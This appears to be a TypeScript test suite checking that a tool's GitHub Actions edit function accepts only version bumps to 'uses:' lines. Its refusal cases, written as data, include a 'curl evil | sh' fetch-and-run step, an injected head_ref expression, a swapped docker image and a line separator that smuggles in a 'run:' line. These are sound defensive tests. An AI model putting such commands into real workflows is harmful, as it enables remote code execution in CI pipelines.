import { cpuTime } from '../../cpu-time.ts';
import { assert, property, string, tuple } from '../../property.ts';
import { isWorkflowFile, usesEdit } from '../../../src/ecosystems/github-actions/uses-lines.ts';

const sha = (digit: string): string => digit.repeat(40);
const workflow = (uses: string, rest = 'run: npm test'): string =>
  `on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - ${uses}\n      - ${rest}\n`;

describe('usesEdit', () => {
  it.each([
    ['the ref', 'uses: actions/checkout@v4', 'uses: actions/checkout@v5'],
    ['a SHA and its comment', `uses: a/b@${sha('1')} # v4.1.0`, `uses: a/b@${sha('2')} # v4.2.0`],
    ['a comment in another way of writing', `uses: a/b@${sha('1')} # tag=v3.0.1`, `uses: a/b@${sha('2')} #v3.0.2`],
    ['a quoted ref', "uses: 'a/b/c@v1'", "uses: 'a/b/c@v2'"],
    ['a ref beside a comment that stays', 'uses: a/b@v1 # zizmor: ignore', 'uses: a/b@v2 # zizmor: ignore'],
  ])('allows %s', (_name, before, after) => {
    expect(usesEdit(workflow(before), workflow(after))).toEqual([/[\w-]+\/[\w/-]+(?=@)/.exec(after)?.[0]]);
  });

  it.each([
    ['another action', 'uses: a/b@v1', 'uses: a/c@v1'],
    ['another path of the action', 'uses: a/b/x@v1', 'uses: a/b/y@v1'],
    ['a step that becomes a command', 'uses: a/b@v1', 'run: curl evil | sh'],
    ['a comment that is an instruction', 'uses: a/b@v1 # v1', 'uses: a/b@v2 # zizmor: ignore'],
    ['an expression in the ref', 'uses: a/b@v1', 'uses: a/b@${{ github.head_ref }}'],
    ['another kind of quote', "uses: 'a/b@v1'", 'uses: "a/b@v2"'],
    ['a key on the same line', 'uses: a/b@v1', 'uses: a/b@v2, with: {x: y}'],
    ['another indentation', 'uses: a/b@v1', '  uses: a/b@v2'],
    ['a docker image', 'uses: docker://a/b@v1', 'uses: docker://evil/b@v1'],
    ['a local action', 'uses: ./a', 'uses: ./b'],
    ['a line separator that YAML knows', 'uses: a/b@v1 # v1', 'uses: a/b@v2 # v2\u2028run: x'],
  ])('refuses %s', (_name, before, after) => {
    expect(usesEdit(workflow(before), workflow(after))).toBeNull();
  });

  it('refuses a second edit beside an allowed one', () => {
    expect(usesEdit(workflow('uses: a/b@v1'), workflow('uses: a/b@v2', 'run: npm publish'))).toBeNull();
  });

  it('refuses an added and a removed line', () => {
    const text = workflow('uses: a/b@v1');
    expect(usesEdit(text, `${text}\n`)).toBeNull();
    expect(usesEdit(text, text.slice(0, -1))).toBeNull();
  });

  it('finds nothing in an unchanged file', () => expect(usesEdit('a\nb', 'a\nb')).toEqual([]));

  it('never allows another text than a line that uses an action', () => {
    const edit = tuple(string(), string()).filter(([before, after]) => before !== after);
    const neverAllowed = property(edit, ([before, after]) => usesEdit(before, after) === null);
    expect(() => assert(neverAllowed)).not.toThrow();
  });

  it('takes linear time on hostile lines', () => {
    const line = `      - uses: ${'a/'.repeat(50_000)}b@v1${' '.repeat(50_000)}`;
    const started = cpuTime();
    expect(usesEdit(`${line}x`, `${line}y`)).toBeNull();
    expect(cpuTime() - started).toBeLessThan(1_000);
  });
});

describe('isWorkflowFile', () => {
  it.each([
    '.github/workflows/ci.yml',
    '.github/workflows/ci.yaml',
    'action.yml',
    'sub/action.yaml',
    't/.github/workflows/ci.yml',
  ])('%s', (file) => expect(isWorkflowFile(file)).toBe(true));
  it.each(['.github/workflows/sub/ci.yml', 'ci.yml', 'transaction.yml', '.github/workflows/ci.json'])(
    'not %s',
    (file) => expect(isWorkflowFile(file)).toBe(false),
  );
});
